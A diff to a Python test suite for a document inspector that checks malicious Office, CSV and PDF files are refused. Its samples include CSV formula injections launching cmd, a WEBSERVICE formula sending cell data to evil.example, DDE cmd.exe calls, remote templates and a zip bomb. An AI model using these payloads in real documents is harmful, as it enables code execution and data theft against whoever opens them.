@@ -77,6 +77,15 @@ def heap(megabytes):
     return out + table + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % places[6]
 
 
+def crowd(count):
+    """A PDF of so many objects, each of them nothing."""
+
+    def change(document):
+        document.Root.X = pikepdf.Array([document.make_indirect(pikepdf.Dictionary()) for _one in range(count)])
+
+    return pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+
+
 def goes_to(target):
     return on_page(pikepdf.Dictionary(S=pikepdf.Name("/GoToR"), F=target, D=0))
 
@@ -106,41 +115,41 @@ def uri():
     return pikepdf.Dictionary(S=pikepdf.Name("/URI"), URI="https://city.example/")
 
 
-@pytest.mark.parametrize(
-    ("code", "data", "name"),
-    [
-        ("broken", torn(), "a.xlsx"),
-        ("broken", package([("xl/evil.xml", b"<a><b></a>")]), "a.xlsx"),
-        ("entities", late_doctype(), "a.xlsx"),
-        ("entities", late_doctype(encoding="utf-16"), "a.xlsx"),
-        ("entities", late_doctype("xl/drawings/a.vml"), "a.xlsx"),
-        ("macros", typed(MACRO % "vbaProject", "utf-16"), "a.xlsx"),
-        ("macros", typed(MACRO % "vba&#80;roject"), "a.xlsx"),
-        ("embedded", package([("xl/code.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 99)]), "a.xlsx"),
-        ("remote", related("attachedTemplate", "https://evil.example/x.dotm"), "a.docx"),
-        ("remote", related("attachedTemplate", "file://evil.example/x.dotm"), "a.docx"),
-        ("remote", related("image", "\\\\evil.example\\x.png"), "a.docx"),
-        ("remote", related("image", "file:///\\\\evil.example\\x.png"), "a.docx"),
-        ("remote", package([("xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink/></externalLink>")]), "a.xlsx"),
-        ("remote", written(["DDEAUTO c:\\\\windows\\\\cmd.exe"]), "a.docx"),
-        ("remote", written([" D", "DE ", "cmd"]), "a.docx"),
-        ("formula", b"a,b\n=cmd|' /C calc'!A0,1\n", "a.csv"),
-        ("formula", b'a,"@SUM(1)+cmd|\'/C calc\'!A0"\n', "a.csv"),
-        ("formula", b'a;=WEBSERVICE("https://evil.example/"&A1)\n', "a.csv"),
-        ("bomb", package([(f"xl/{n}.bin", b"\0" * 1_040_000) for n in range(20)]), "a.xlsx"),
-        ("active-pdf", pdf(on_open({"/S": pikepdf.Name("/SubmitForm"), "/F": "https://evil.example/"})), "a.pdf"),
-        ("active-pdf", pdf(on_open({"/S": pikepdf.Name("/URI"), "/URI": "https://evil.example/"})), "a.pdf"),
-        ("active-pdf", pdf(on_open({"/S": pikepdf.Name("/GoToE")})), "a.pdf"),
-        ("active-pdf", pdf(when_shown), "a.pdf"),
-        ("active-pdf", pdf(then), "a.pdf"),
-        ("active-pdf", pdf(stored_elsewhere), "a.pdf"),
-        ("active-pdf", pdf(goes_to("\\\\evil.example\\share\\x.pdf")), "a.pdf"),
-        ("active-pdf", pdf(goes_to(pikepdf.Dictionary(F="/evil.example/share/x.pdf"))), "a.pdf"),
-        ("other-content", b"24 bytes of plain text..", "a.pdf"),
-        ("other-content", b"a,b\n1,2\n", "a.xlsx"),
-        ("other-content", b"not a picture", "a.png"),
-    ],
-)  # fmt: skip
+ACTING = [
+    ("broken", torn(), "a.xlsx"),
+    ("broken", package([("xl/evil.xml", b"<a><b></a>")]), "a.xlsx"),
+    ("entities", late_doctype(), "a.xlsx"),
+    ("entities", late_doctype(encoding="utf-16"), "a.xlsx"),
+    ("entities", late_doctype("xl/drawings/a.vml"), "a.xlsx"),
+    ("macros", typed(MACRO % "vbaProject", "utf-16"), "a.xlsx"),
+    ("macros", typed(MACRO % "vba&#80;roject"), "a.xlsx"),
+    ("embedded", package([("xl/code.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 99)]), "a.xlsx"),
+    ("remote", related("attachedTemplate", "https://evil.example/x.dotm"), "a.docx"),
+    ("remote", related("attachedTemplate", "file://evil.example/x.dotm"), "a.docx"),
+    ("remote", related("image", "\\\\evil.example\\x.png"), "a.docx"),
+    ("remote", related("image", "file:///\\\\evil.example\\x.png"), "a.docx"),
+    ("remote", package([("xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink/></externalLink>")]), "a.xlsx"),
+    ("remote", written(["DDEAUTO c:\\\\windows\\\\cmd.exe"]), "a.docx"),
+    ("remote", written([" D", "DE ", "cmd"]), "a.docx"),
+    ("formula", b"a,b\n=cmd|' /C calc'!A0,1\n", "a.csv"),
+    ("formula", b'a,"@SUM(1)+cmd|\'/C calc\'!A0"\n', "a.csv"),
+    ("formula", b'a;=WEBSERVICE("https://evil.example/"&A1)\n', "a.csv"),
+    ("bomb", package([(f"xl/{n}.bin", b"\0" * 1_040_000) for n in range(20)]), "a.xlsx"),
+    ("active-pdf", pdf(on_open({"/S": pikepdf.Name("/SubmitForm"), "/F": "https://evil.example/"})), "a.pdf"),
+    ("active-pdf", pdf(on_open({"/S": pikepdf.Name("/URI"), "/URI": "https://evil.example/"})), "a.pdf"),
+    ("active-pdf", pdf(on_open({"/S": pikepdf.Name("/GoToE")})), "a.pdf"),
+    ("active-pdf", pdf(when_shown), "a.pdf"),
+    ("active-pdf", pdf(then), "a.pdf"),
+    ("active-pdf", pdf(stored_elsewhere), "a.pdf"),
+    ("active-pdf", pdf(goes_to("\\\\evil.example\\share\\x.pdf")), "a.pdf"),
+    ("active-pdf", pdf(goes_to(pikepdf.Dictionary(F="/evil.example/share/x.pdf"))), "a.pdf"),
+    ("other-content", b"24 bytes of plain text..", "a.pdf"),
+    ("other-content", b"a,b\n1,2\n", "a.xlsx"),
+    ("other-content", b"not a picture", "a.png"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("code", "data", "name"), ACTING)
 def test_what_acts_when_it_is_opened_is_refused_with_its_reason(code, data, name):
     with pytest.raises(contents.Unfit) as unfit:
         contents.inspect(data, name)
